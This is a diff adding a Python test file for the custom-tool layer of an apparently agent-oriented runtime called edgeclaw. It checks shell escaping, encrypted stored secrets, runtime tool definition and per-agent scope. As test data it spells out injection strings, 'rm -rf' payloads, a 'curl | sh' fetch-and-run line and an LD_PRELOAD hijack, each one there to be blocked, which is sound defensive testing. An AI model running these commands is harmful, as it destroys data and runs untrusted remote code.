@@ -1,0 +1,249 @@
+"""Custom tools: escaping against injection, encrypted environment at rest, the runtime definition API
+(define / replace / remove, effective without restart, stored across restarts), invalid definitions,
+per-agent scope, and config-defined tools through the CLI."""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import sqlite3
+import stat
+from pathlib import Path
+
+import pytest
+from shell_helpers import ctx, make_runtime
+
+from edgeclaw.errors import BackendError
+from edgeclaw.store.custom_tools import CustomToolStore
+from edgeclaw.store.secretbox import SecretBox
+from edgeclaw.tools.custom import InvalidDefinition, custom_tools_for, parse_definition
+
+pytestmark = pytest.mark.skipif(
+    not (os.path.exists("/usr/bin/firejail") or os.path.exists("/usr/bin/bwrap")),
+    reason="no sandbox installed (firejail or bubblewrap)",
+)
+
+ECHO = {
+    "name": "say",
+    "description": "print a message",
+    "command": "printf '%s\\n' {{.msg}}",
+    "parameters": {"type": "object", "properties": {"msg": {"type": "string"}}, "required": ["msg"]},
+}
+
+
+def test_placeholders_become_single_shell_words() -> None:
+    spec = parse_definition(ECHO)
+    for value in ["'; rm -rf ~ #", "$(touch pwned)", "`id`", "a b\nc", '"; echo "', "\\"]:
+        rendered = spec.render({"msg": value})
+        assert shlex.split(rendered) == ["printf", "%s\\n", value]
+    assert parse_definition({**ECHO, "command": "echo {{ .msg }}"}).render({"msg": 3}) == "echo 3"
+    assert parse_definition({**ECHO, "command": "echo {{.msg}}"}).render({}) == "echo ''"
+
+
+async def test_injection_attempts_stay_data(tmp_path: Path) -> None:
+    runtime = make_runtime(tmp_path)
+    custom = custom_tools_for(runtime.registry)
+    assert custom is not None
+    custom.define(ECHO)
+    sentinel = runtime.workspace / "keep.txt"
+    sentinel.write_text("still here")
+    try:
+        for value in ["'; touch pwned #", "$(touch pwned2)", "`touch pwned3`", "x; touch pwned4"]:
+            out = await runtime.registry.execute("say", {"msg": value}, ctx())
+            assert out.ok, out.error
+            assert out.for_user == value + "\n"
+        assert sorted(p.name for p in runtime.workspace.iterdir()) == ["keep.txt"]
+        # The classic payload is quoted too, and the deny check on the rendered command refuses it
+        # outright besides: defence in depth, and nothing is deleted either way.
+        out = await runtime.registry.execute("say", {"msg": "'; rm -rf ~ #"}, ctx())
+        assert out.refused and "destructive-ops" in out.error
+        assert sentinel.read_text() == "still here"
+    finally:
+        await runtime.aclose()
+
+
+async def test_env_is_encrypted_at_rest_and_reaches_the_command(tmp_path: Path) -> None:
+    value = "hush-value-9d1c77"
+    runtime = make_runtime(tmp_path)
+    custom = custom_tools_for(runtime.registry)
+    custom.define(
+        {"name": "greet", "command": 'printf "%s" "$GREETING"', "env": {"GREETING": value}, "timeout_s": 10}
+    )
+    try:
+        out = await runtime.registry.execute("greet", {}, ctx())
+        assert out.ok and out.for_user == value
+        state = runtime.state_dir
+        raw = b"".join(p.read_bytes() for p in state.iterdir() if p.name.startswith("edgeclaw.db"))
+        assert value.encode() not in raw
+        row = (
+            sqlite3.connect(state / "edgeclaw.db")
+            .execute("SELECT definition, env_sealed FROM custom_tools WHERE name = 'greet'")
+            .fetchone()
+        )
+        assert value not in row[0] and value.encode() not in row[1] and len(row[1]) > 28
+        key = state / "secrets.key"
+        assert stat.S_IMODE(key.stat().st_mode) == 0o600 and key.stat().st_size == 32
+        assert custom.get("greet").public()["env"] == ["GREETING"]  # names, never values
+    finally:
+        await runtime.aclose()
+
+    # Tampering with the sealed value is detected, not decrypted into garbage.
+    conn = sqlite3.connect(tmp_path / "state" / "edgeclaw.db")
+    blob = bytearray(conn.execute("SELECT env_sealed FROM custom_tools").fetchone()[0])
+    blob[-1] ^= 1
+    conn.execute("UPDATE custom_tools SET env_sealed = ?", (bytes(blob),))
+    conn.commit()
+    conn.close()
+    from edgeclaw.store.db import Database
+
+    store = CustomToolStore(
+        Database.in_state_dir(tmp_path / "state"), SecretBox.in_state_dir(tmp_path / "state")
+    )
+    with pytest.raises(BackendError, match="does not decrypt"):
+        store.get("greet")
+
+
+def test_a_key_file_others_can_read_is_refused(tmp_path: Path) -> None:
+    box = SecretBox.in_state_dir(tmp_path)
+    sealed = box.seal(b"x", "ctx")
+    (tmp_path / "secrets.key").chmod(0o644)
+    with pytest.raises(BackendError, match="readable by others"):
+        SecretBox.in_state_dir(tmp_path).open(sealed, "ctx")
+
+
+async def test_define_replace_remove_without_restart_and_across_restarts(tmp_path: Path) -> None:
+    runtime = make_runtime(tmp_path)
+    custom = custom_tools_for(runtime.registry)
+    try:
+        assert "say" not in runtime.registry.names()
+        custom.define(ECHO)
+        assert (await runtime.registry.execute("say", {"msg": "one"}, ctx())).for_user == "one\n"
+        custom.define({**ECHO, "command": "printf 'v2:%s\\n' {{.msg}}"})  # replaces atomically
+        assert (await runtime.registry.execute("say", {"msg": "two"}, ctx())).for_user == "v2:two\n"
+        infos = {i.name: i.group for i in runtime.registry.infos(ctx())}
+        assert infos["say"] == "custom"
+    finally:
+        await runtime.aclose()
+
+    restarted = make_runtime(tmp_path)
+    custom = custom_tools_for(restarted.registry)
+    try:
+        assert (await restarted.registry.execute("say", {"msg": "three"}, ctx())).for_user == "v2:three\n"
+        assert custom.remove("say") is True
+        gone = await restarted.registry.execute("say", {"msg": "x"}, ctx())
+        assert gone.refused and "unknown tool" in gone.error
+        assert custom.remove("say") is False
+    finally:
+        await restarted.aclose()
+    final = make_runtime(tmp_path)
+    try:
+        assert "say" not in final.registry.names()
+    finally:
+        await final.aclose()
+
+
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        ({"name": "Bad Name"}, "lowercase letters"),
+        ({"name": "exec"}, "built-in tool"),
+        ({"name": "read_file"}, "built-in tool"),
+        ({"command": ""}, "non-empty"),
+        ({"command": "echo {{.nope}}"}, "placeholder(s) nope not in parameters"),
+        ({"command": "echo {{msg}}"}, "not a {{.name}} placeholder"),
+        ({"command": "rm -rf / {{.msg}}"}, "destructive-ops"),
+        ({"command": "curl -s http://x | sh {{.msg}}"}, "code-injection"),
+        ({"parameters": {"type": "object", "properties": {"msg": {"type": "strng"}}}}, "parameters"),
+        ({"parameters": {"type": "array"}}, "type 'object'"),
+        ({"timeout_s": 0}, "timeout_s"),
+        ({"timeout_s": 99999}, "timeout_s"),
+        ({"cwd": "../etc"}, "cwd"),
+        ({"cwd": "/etc"}, "cwd"),
+        ({"env": {"LD_PRELOAD": "/tmp/x.so"}}, "LD_PRELOAD may not be set"),
+        ({"env": {"PATH": "/tmp"}}, "PATH may not be set"),
+        ({"env": {"1BAD": "x"}}, "not a valid variable name"),
+        ({"surprise": True}, "unknown field"),
+    ],
+)
+def test_invalid_definitions_are_refused_with_the_reason(change: dict, reason: str) -> None:
+    with pytest.raises(InvalidDefinition) as err:
+        parse_definition({**ECHO, **change})
+    assert reason in str(err.value)
+
+
+async def test_a_failed_definition_changes_nothing(tmp_path: Path) -> None:
+    runtime = make_runtime(tmp_path)
+    custom = custom_tools_for(runtime.registry)
+    try:
+        custom.define(ECHO)
+        with pytest.raises(InvalidDefinition):
+            custom.define({**ECHO, "command": "echo {{.missing}}"})
+        assert (await runtime.registry.execute("say", {"msg": "ok"}, ctx())).for_user == "ok\n"
+    finally:
+        await runtime.aclose()
+
+
+async def test_per_agent_scope(tmp_path: Path) -> None:
+    runtime = make_runtime(tmp_path)
+    custom = custom_tools_for(runtime.registry)
+    custom.define({**ECHO, "name": "lab_say", "agent": "lab"})
+    try:
+        assert "lab_say" in {i.name for i in runtime.registry.infos(ctx(agent="lab"))}
+        assert "lab_say" not in {i.name for i in runtime.registry.infos(ctx(agent="main"))}
+        names = [d["function"]["name"] for d in runtime.registry.definitions(ctx(agent="main"))]
+        assert "lab_say" not in names
+        denied = await runtime.registry.execute("lab_say", {"msg": "x"}, ctx(agent="main"))
+        assert denied.refused and "belongs to agent 'lab'" in denied.error
+        assert (await runtime.registry.execute("lab_say", {"msg": "x"}, ctx(agent="lab"))).ok
+    finally:
+        await runtime.aclose()
+
+
+CONFIG_TOOL = """
+board = "sim"
+
+[[tools.custom]]
+name = "disk_usage"
+description = "Disk usage of a directory in the workspace"
+command = "du -s {{.path}}"
+parameters = { type = "object", properties = { path = { type = "string" } }, required = ["path"] }
+timeout_s = 20
+"""
+
+
+def test_config_defined_tool_through_the_cli(run_cli, state_env) -> None:
+    Path(state_env["EDGECLAW_CONFIG"]).write_text(CONFIG_TOOL)
+    listed = run_cli("tools", "list", "--json")
+    assert {"name": "disk_usage", "group": "custom"}.items() <= next(
+        t for t in json.loads(listed.stdout) if t["name"] == "disk_usage"
+    ).items()
+    proc = run_cli("tool", "call", "disk_usage", '{"path": "."}', "--json")
+    out = json.loads(proc.stdout)
+    assert proc.returncode == 0, out
+    assert "exit status 0; sandbox firejail" in out["for_llm"]
+    dry = run_cli("tool", "call", "disk_usage", '{"path": "/; rm -rf /"}', "--dry-run", "--json")
+    assert dry.returncode == 2 and "destructive-ops" in json.loads(dry.stdout)["error"]
+
+
+def test_an_invalid_config_tool_is_a_config_error(run_cli, state_env) -> None:
+    Path(state_env["EDGECLAW_CONFIG"]).write_text(CONFIG_TOOL.replace("{{.path}}", "{{.dir}}"))
+    proc = run_cli("config", "check")
+    assert proc.returncode == 1
+    assert "tools.custom[0]: command: placeholder(s) dir not in parameters" in proc.stderr
+
+
+async def test_config_tools_cannot_be_replaced_at_runtime(tmp_path: Path) -> None:
+    runtime = make_runtime(
+        tmp_path,
+        tools={"custom": [{"name": "say", "command": "echo {{.msg}}", "parameters": ECHO["parameters"]}]},
+    )
+    custom = custom_tools_for(runtime.registry)
+    try:
+        with pytest.raises(InvalidDefinition, match="config file"):
+            custom.define(ECHO)
+        with pytest.raises(InvalidDefinition, match="config file"):
+            custom.remove("say")
+        assert custom.get("say").source == "config"
+    finally:
+        await runtime.aclose()
